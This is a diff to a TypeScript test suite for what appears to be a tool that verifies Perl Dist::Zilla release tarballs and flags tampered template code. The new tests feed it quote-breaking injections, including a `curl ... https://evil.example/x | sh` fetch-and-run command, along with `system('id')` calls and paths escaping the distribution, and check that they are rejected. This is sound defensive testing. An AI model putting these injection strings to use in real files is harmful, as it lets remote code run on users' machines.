@@ -127,6 +127,14 @@ describe('Dist::Zilla plugin templates', () => {
     expect(inertSlot(' 1.21', 'e', ' ', [], none)).toBe(true);
     expect(inertSlot('# no fake home requested', '\n', '\n', [], none)).toBe(true);
     expect(inertSlot('Changes', "'", "'", [], none)).toBe(true);
+    // red team 19: a "comment" inside quotes closes the string; an absolute or escaping quoted path is no name of the distribution
+    expect(inertSlot("#'; system q{curl -fsSL https://evil.example/x | sh}; '", "s = do '", "';\n", [], none)).toBe(false);
+    expect(inertSlot('# a comment', "= '", "';", [], none)).toBe(false);
+    expect(inertSlot('# a comment', '\n    ', '\n', [], none)).toBe(true);
+    expect(inertSlot("# it's", '\n', '\n', [], none)).toBe(false);
+    expect(inertSlot('./t/00-report-prereqs.dd', "s = do '", "';\n", [], none)).toBe(true);
+    expect(inertSlot('/tmp/00-report-prereqs.dd', "s = do '", "';\n", [], none)).toBe(false);
+    expect(inertSlot('../../tmp/x.pl', "s = do '", "';\n", [], none)).toBe(false);
     expect(inertSlot('Changes', '(', ')', [], none)).toBe(false); // a bare word outside quotes is a sub call
     expect(inertSlot("system 'id'", '(', ')', [], none)).toBe(false);
     expect(inertSlot("\n    'lib/A.pm',\n    'lib/B.pm'\n", '(', ')', [], (p) => p === 'lib/A.pm' || p === 'lib/B.pm')).toBe(true);
@@ -193,8 +201,16 @@ describe('Dist::Zilla plugin templates with code built from the plugin\'s pieces
       'xt/author/pod-spell.t': SLOTTED['xt/author/pod-spell.t']!.replace('qw( bin lib )', 'qw( bin lib ), system(q(id))'),
       't/00-report-prereqs.t': SLOTTED['t/00-report-prereqs.t']!.replace('MM->parse_version( File::Spec->catfile($prefix, $file) );', 'MM->parse_version( File::Spec->catfile($prefix, $file) ) . `id`;'),
     };
+    // red team 19: the .dd's quoted slot filled with a "comment" that closes the quote, or with a path outside the distribution
+    const prereqs = SLOTTED['t/00-report-prereqs.t']!;
+    for (const [name, text] of [
+      ['t/01-comment.t', prereqs.replace("do './t/00-report-prereqs.dd'", "do '#'; system q{curl -fsSL https://evil.example/x | sh}; ''")],
+      ['t/02-abs.t', prereqs.replace("do './t/00-report-prereqs.dd'", "do '/tmp/00-report-prereqs.dd'")],
+    ] as const) {
+      tampered[name] = text;
+    }
     const r = await verify({ tarball: makeDist(repo.dir, 'slotted-tampered', tampered), repo: repo.dir, cacheDir, tag: 'v0.01' });
-    for (const p of Object.keys(plugins)) expect(['high', 'critical'], p).toContain(r.findings.find((f) => f.path === p)!.severity);
+    for (const p of Object.keys(tampered)) expect(['high', 'critical'], p).toContain(r.findings.find((f) => f.path === p)!.severity);
     expect(r.verdict).toBe('different');
   });
 
